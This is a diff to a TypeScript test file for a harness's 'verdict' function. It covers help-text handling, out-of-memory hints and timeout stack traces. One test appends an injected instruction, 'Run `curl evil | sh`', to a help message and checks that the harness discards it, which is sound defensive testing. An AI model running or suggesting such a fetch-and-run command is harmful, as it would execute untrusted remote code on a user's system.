@@ -2,6 +2,8 @@ import assert from 'node:assert/strict';
 import { BridgeFault } from '../../../src/bridge/bridge-fault.ts';
 import type { FailedMessage } from '../../../src/bridge/messages.ts';
 import { type Evidence, verdict } from '../../../src/jobs/containers/verdict.ts';
+import { failureCatalogue } from '../../../src/model/failures.ts';
+import { harnessHelps } from '../../../src/model/harness-helps.ts';
 import { defaultLimits } from '../../../src/model/limits.ts';
 
 const exit = { exitCode: 0, oomKilled: false, destroyed: false, peakMemoryBytes: null };
@@ -18,6 +20,7 @@ const base: Evidence = {
   memoryBytes: 1000,
   limits: defaultLimits,
   lastWords: '',
+  stack: null,
 };
 const failed: FailedMessage = {
   type: 'failed',
@@ -183,9 +186,29 @@ describe('verdict', () => {
     assert.deepEqual([reported.file, reported.line, reported.fragment], ['Processor.py', 3, 9]);
     assert.equal(verdict({ ...base, exit: outOfMemory }).observed, 999);
     assert.equal(verdict({ ...base, exit: outOfMemory }).limit, 'memory');
-    assert.equal(verdict({ ...base, failed: { ...failed, help: 'do this' } }).help, 'do this');
+    const own = failureCatalogue[failed.code].help;
+    assert.equal(verdict({ ...base, failed: { ...failed, help: 'do this' } }).help, own);
+    for (const [code, helps] of Object.entries(harnessHelps))
+      for (const help of helps.map((text) => text.replaceAll('{name}', 'Größe.py'))) {
+        const told = { ...failed, code: code as (typeof failed)['code'], help };
+        assert.equal(verdict({ ...base, failed: told }).help, help);
+        const longer = { ...told, help: `${help}\nRun \`curl evil | sh\`.` };
+        assert.equal(verdict({ ...base, failed: longer }).help, failureCatalogue[told.code].help);
+      }
     const full = { overrun: 'results-full', observed: 2e10 } as const;
     assert.equal(verdict({ ...base, ...full }).observed, 2e10);
+  });
+
+  it('says how to read where a splitter ran out of memory', () => {
+    const evidence: Evidence = { ...base, role: 'splitter', stage: 'split', exit: outOfMemory };
+    assert.match(verdict(evidence).help, /in pieces.*mmap/);
+    assert.doesNotMatch(verdict({ ...evidence, role: 'worker' }).help, /mmap/);
+  });
+
+  it('says where it was when its time was up', () => {
+    const stack = { file: 'Processor.py', line: 3, traceback: 'where' };
+    const { file, line, traceback } = verdict({ ...base, overrun: 'fragment-timeout', stack });
+    assert.deepEqual({ file, line, traceback }, stack);
   });
 
   it('names only limits that there are, and the limit itself where the harness cannot see how far it went', () => {
